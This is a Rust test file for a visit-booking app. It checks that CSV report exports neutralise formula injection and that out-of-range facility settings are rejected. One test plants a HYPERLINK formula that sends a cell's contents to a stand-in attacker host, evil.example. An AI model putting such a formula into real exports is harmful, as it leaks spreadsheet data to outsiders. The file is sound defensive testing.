//! Findings 9 and 15: a unit named like a formula went into `reports.csv` unescaped, and
//! settings took 4294967295 for the weekly limit and the booking notice.

use serde_json::json;

use crate::harness::*;

#[tokio::test]
async fn a_formula_in_a_unit_name_reaches_the_csv_as_text() {
    let app = TestApp::spawn(openvisit_store::Backend::Sqlite).await;
    let fx = fixture(app.db(), 1, 1, settings()).await;
    let (v, email) = approved_visitor(app.db(), &fx, &fx.residents).await;
    fund(app.db(), v, 10_000).await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    sqlx::query("UPDATE housing_units SET name = $1 WHERE facility_id = $2")
        .bind(evil)
        .bind(fx.facility.0)
        .execute(&app.db().pool)
        .await
        .expect("rename");
    let visitor = app.client_for(&email, VISITOR_PASSWORD).await;
    let start = local_start(2, 9, 0);
    visitor.book_remote(fx.residents[0], start, 15).await;
    let date = jiff::tz::TimeZone::get("America/Chicago")
        .expect("zone")
        .to_datetime(start)
        .date();
    let staff = app.client_for(&fx.staff_email, STAFF_PASSWORD).await;
    let text = reqwest::Client::new()
        .get(format!(
            "{}/api/v1/staff/reports.csv?from={date}&to={date}",
            app.base
        ))
        .header("cookie", staff.cookie.clone().unwrap_or_default())
        .send()
        .await
        .expect("csv")
        .text()
        .await
        .expect("text");
    // The cell holds quotes and commas, so the writer quotes it: it must start with `'`.
    assert!(text.contains("\"'=HYPERLINK("), "{text}");
    assert!(
        !text.contains(",=HYPERLINK") && !text.contains(",\"=HYPERLINK"),
        "{text}"
    );
    app.stop().await;
}

#[tokio::test]
async fn settings_out_of_any_sane_range_are_refused_with_a_reason() {
    let app = TestApp::spawn(openvisit_store::Backend::Sqlite).await;
    let fx = fixture(app.db(), 1, 1, settings()).await;
    let staff = app.client_for(&fx.staff_email, STAFF_PASSWORD).await;
    let (status, facility) = staff.get("/api/v1/staff/facility").await;
    assert_eq!(status, 200, "{facility}");
    let current = facility
        .get("settings")
        .cloned()
        .unwrap_or_else(|| facility.clone());
    for (field, value) in [
        ("weekly_limit", 4_294_967_295_u64),
        ("min_notice_minutes", 4_294_967_295),
        ("cancel_notice_minutes", 100_000),
        ("weekly_limit", 101),
    ] {
        let mut changed = current.clone();
        changed[field] = json!(value);
        let (status, body) = staff.put("/api/v1/staff/facility", changed).await;
        assert_eq!(status, 422, "{field}={value}: {body}");
        assert!(
            body["message"]
                .as_str()
                .is_some_and(|m| m.contains("at most") || m.contains("from 0")),
            "{field}: {body}"
        );
    }
    let (status, body) = staff.put("/api/v1/staff/facility", current).await;
    assert_eq!(status, 200, "the current settings still pass: {body}");
    app.stop().await;
}
